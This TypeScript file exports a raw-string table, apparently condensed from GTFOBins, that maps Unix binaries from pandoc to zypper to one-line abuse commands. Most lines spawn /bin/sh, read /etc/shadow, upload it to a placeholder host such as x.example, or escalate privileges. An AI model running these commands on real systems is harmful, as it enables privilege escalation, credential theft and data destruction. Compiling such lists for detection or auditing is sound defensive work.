/** See gtfobins-a-f.ts. */
export const gtfobinsPToZ = String.raw`
pandoc shell pandoc -L x.lua /dev/null
pandoc write pandoc -t plain -o f x
passwd suid passwd
paste read paste /etc/shadow
pax read pax -w /etc/shadow
pdb shell pdb x.py
pdflatex shell pdflatex --shell-escape x
pdftex shell pdftex --shell-escape x
perf shell perf stat /bin/sh
perl shell perl -e 'exec "/bin/sh";'
perl read perl -ne print /etc/shadow
perl reverse-shell perl -e 'use Socket;'
perlbug shell perlbug -s 'x x x' -r x -c x -e 'exec /bin/sh;'
pexec shell pexec /bin/sh
pg shell pg /etc/profile
php shell php -r 'system("/bin/sh");'
php write php -r 'file_put_contents("f","DATA");'
pic shell pic -U
pic read pic /etc/shadow
pico shell pico -s /bin/sh
pidstat command pidstat -e id
pip shell pip install .
pip write pip install --log f x
pipx shell pipx run x
pkexec shell pkexec /bin/sh
pkg shell pkg install -y --no-repo-update ./x.txz
plymouth command plymouth ask-for-password --prompt=x --command=id
podman shell podman run -v /:/mnt -it x sh
poetry shell poetry run sh
posh shell posh
pr read pr -T /etc/shadow
procmail command procmail -m ./x
pry shell pry
psftp shell psftp
psql shell psql -c '\! /bin/sh'
ptx read ptx -w 5000 /etc/shadow
puppet shell puppet apply -e "exec { '/bin/sh -c id': }"
pwsh shell pwsh
pwsh write pwsh -c '"DATA" | Out-File f'
pygmentize read pygmentize /etc/shadow
pygmentize shell pygmentize -x -l ./x.py f
pyright read pyright /etc/shadow
python shell python -c 'import os; os.system("/bin/sh")'
python write python -c 'open("f","w").write("DATA")'
qpdf read qpdf --add-attachment /etc/shadow -- --empty -
R shell R --no-save -e 'system("/bin/sh")'
rake shell rake -p '/bin/sh 1>&0'
rake read rake -f /etc/shadow
ranger shell ranger
rc shell rc -c /bin/sh
readelf read readelf -a @/etc/shadow
red write red f
redcarpet read redcarpet /etc/shadow
redis write redis-cli config set dir /tmp
restic upload restic backup -r rest:http://x.example/x /etc/shadow
restic shell restic --password-command=/bin/sh backup
rev read rev /etc/shadow
rlogin upload rlogin -l "x" -p 1 x.example
rlwrap shell rlwrap /bin/sh
rpm shell rpm --eval '%{lua:os.execute("/bin/sh")}'
rpm shell rpm --pipe '/bin/sh 0<&1'
rpm shell rpm -ivh x.rpm
rpmdb shell rpmdb --eval '%(/bin/sh 1>&2)'
rpmquery shell rpmquery --eval '%{lua:posix.exec("/bin/sh")}'
rpmverify shell rpmverify --eval '%(/bin/sh 1>&2)'
rsync shell rsync -e 'sh -c "sh 0<&2 1>&2"' x:x
rsync upload rsync /etc/shadow x.example:/x
rsyslogd command rsyslogd -f ./x
rtorrent shell rtorrent -o execute=/bin/sh
ruby shell ruby -e 'exec "/bin/sh"'
ruby write ruby -e 'File.open("f","w")'
run-mailcap shell run-mailcap --action=view /etc/hosts
run-parts shell run-parts --new-session --regex '^sh$' /bin
runscript shell runscript x
rustc read rustc /etc/shadow
rustc shell rustc -C linker=/bin/sh x.rs
rustdoc read rustdoc /etc/shadow
rustfmt read rustfmt /etc/shadow
rustup shell rustup run stable sh
rview shell rview -c ':py3 import os; os.execl("/bin/sh","sh")'
rvim shell rvim -c ':lua os.execute("/bin/sh")'
sash shell sash
scanmem shell scanmem
scp shell scp -S ./x x y:
scp upload scp /etc/shadow x.example:
screen shell screen
screen write screen -L -Logfile f echo DATA
script shell script -q /dev/null
script write script -q -c 'echo DATA' f
scrot shell scrot -e /bin/sh
sed shell sed -n '1e exec sh 1>&0' /etc/hosts
sed write sed -n '1s/.*/DATA/w f' /etc/hosts
sed read sed '' /etc/shadow
sed write sed -i 's/x/y/' f
service shell service ../../bin/sh
setarch shell setarch x86_64 /bin/sh
setcap suid setcap cap_setuid+ep f
setfacl suid setfacl -m u:x:rwx /etc/shadow
setlock shell setlock - /bin/sh
sftp shell sftp x.example
sg shell sg root
sh shell sh
shred delete shred -u /etc/shadow
shuf write shuf -e DATA -o f
shuf read shuf -z /etc/shadow
slsh shell slsh -e 'system("/bin/sh")'
smbclient shell smbclient '\\x\y'
snap shell snap install x.snap --dangerous --devmode
socat shell socat stdin exec:/bin/sh
socat read socat -u file:/etc/shadow -
socket shell socket -qvp '/bin/sh -i' x.example 1
soelim read soelim /etc/shadow
softlimit shell softlimit /bin/sh
sort read sort -m /etc/shadow
sort write sort -o f x
split shell split --filter=/bin/sh /dev/stdin
split write split -b999m x f
split read split /etc/shadow
sqlite3 shell sqlite3 /dev/null '.shell /bin/sh'
sqlmap shell sqlmap -u x --eval="import os; os.system('/bin/sh')"
ss read ss -a -F /etc/shadow
ssh shell ssh -o ProxyCommand=';sh 0<&2 1>&2' x
ssh read ssh -F /etc/shadow x
ssh-agent shell ssh-agent /bin/sh
ssh-copy-id read ssh-copy-id -f -i /etc/shadow.pub x@y
ssh-keygen library-load ssh-keygen -D ./lib.so
ssh-keyscan read ssh-keyscan -f /etc/shadow
sshfs shell sshfs -o ssh_command=./x x: /m
sshpass shell sshpass /bin/sh
sshuttle shell sshuttle -r x --ssh-cmd '/bin/sh -c "/bin/sh 0<&2 1>&2"' localhost
start-stop-daemon shell start-stop-daemon -n 1 -S -x /bin/sh
stdbuf shell stdbuf -i0 /bin/sh
strace shell strace -o /dev/null /bin/sh
strings read strings /etc/shadow
su shell su
sudo shell sudo /bin/sh
sysctl read sysctl -n "/../../etc/shadow"
sysctl command sysctl 'kernel.core_pattern=|/x'
systemctl shell systemctl
systemctl command systemctl link x.service
systemd-resolve shell systemd-resolve --status
systemd-run shell systemd-run -S
tac read tac -s x /etc/shadow
tail read tail -c1G /etc/shadow
tailscale upload tailscale file cp /etc/shadow x:
tar shell tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh
tar shell tar xf /dev/null -I '/bin/sh -c "sh <&2 1>&2"'
tar write tar -c x -f f
tar upload tar cvf x@x.example:/x /etc/shadow --rsh-command=/bin/ssh
task shell task execute /bin/sh
taskset shell taskset 1 /bin/sh
tasksh shell tasksh
tbl read tbl /etc/shadow
tclsh shell tclsh
tcpdump command tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z ./x
tcsh shell tcsh -b
tdbtool shell tdbtool
tee write tee -a f
telnet shell telnet
terraform read terraform console
tex shell tex --shell-escape x
tftp upload tftp x.example
tic read tic -C /etc/shadow
time shell time /bin/sh
timedatectl shell timedatectl list-timezones
timeout shell timeout 7d /bin/sh
tmate shell tmate -c /bin/sh
tmux shell tmux
tmux read tmux -f /etc/shadow
top shell top
torify shell torify /bin/sh
torsocks shell torsocks /bin/sh
troff read troff /etc/shadow
tsc read tsc @/etc/shadow
tshark shell tshark -Xlua_script:x
ul read ul /etc/shadow
unexpand read unexpand -t99999999 /etc/shadow
uniq read uniq /etc/shadow
uniq write uniq x /etc/passwd
unshare shell unshare /bin/sh
unsquashfs suid unsquashfs x
unzip suid unzip -K x.zip
update-alternatives write update-alternatives --force --install f x y 0
urlget read urlget - /etc/shadow
uuencode read uuencode /etc/shadow /dev/stdout
uv shell uv run sh
vagrant shell vagrant up
valgrind shell valgrind /bin/sh
varnishncsa write varnishncsa -g request -q x -F y -w f
vi shell vi -c ':!/bin/sh' /dev/null
view shell view -c ':!/bin/sh'
vigr shell vigr
vim shell vim -c ':!/bin/sh'
vim write vim f
vimdiff shell vimdiff -c ':!/bin/sh'
vipw shell vipw
virsh write virsh -c qemu:///system pool-create-as x dir --target /
volatility shell volatility -f x volshell
w3m read w3m /etc/shadow -dump
wall read wall --nobanner /etc/shadow
watch shell watch -x sh -c 'reset; exec sh 1>&0 2>&0'
wc read wc --files0-from /etc/shadow
wg-quick shell wg-quick up ./x.conf
wget shell wget --use-askpass=./x 0
wget upload wget --post-file=/etc/shadow http://x.example
wget read wget -i /etc/shadow
wget write wget -i x -o f
whiptail read whiptail --textbox --scrolltext /etc/shadow 0 0
whois upload whois -h x.example -p 1 x
wireshark write wireshark -c 1 -i lo -k -f x
wish shell wish
xargs shell xargs -a /dev/null sh
xargs read xargs -0 -a /etc/shadow
xdg-user-dir shell xdg-user-dir '}; /bin/sh #'
xdotool shell xdotool exec --sync /bin/sh
xelatex shell xelatex --shell-escape x
xetex shell xetex --shell-escape x
xmodmap read xmodmap -v /etc/shadow
xmore read xmore /etc/shadow
xpad read xpad -f /etc/shadow
xxd read xxd /etc/shadow
xxd write xxd -r x f
xz read xz -c /etc/shadow
yarn shell yarn exec /bin/sh
yash shell yash
yelp read yelp man:/etc/shadow
yt-dlp shell yt-dlp x --exec /bin/sh
yum shell yum localinstall -y x.rpm
yum library-load yum --installroot=d --config=c x
zathura shell zathura
zcat read zcat -f /etc/shadow
zgrep read zgrep '' /etc/shadow
zic shell zic -d x y
zip shell zip x /etc/hosts -T -TT 'sh #'
zip read zip x /etc/shadow
zless shell zless /etc/profile
zsh shell zsh
zsh read zsh -c 'echo "$(</etc/shadow)"'
zsoelim read zsoelim /etc/shadow
zypper shell zypper x
`;
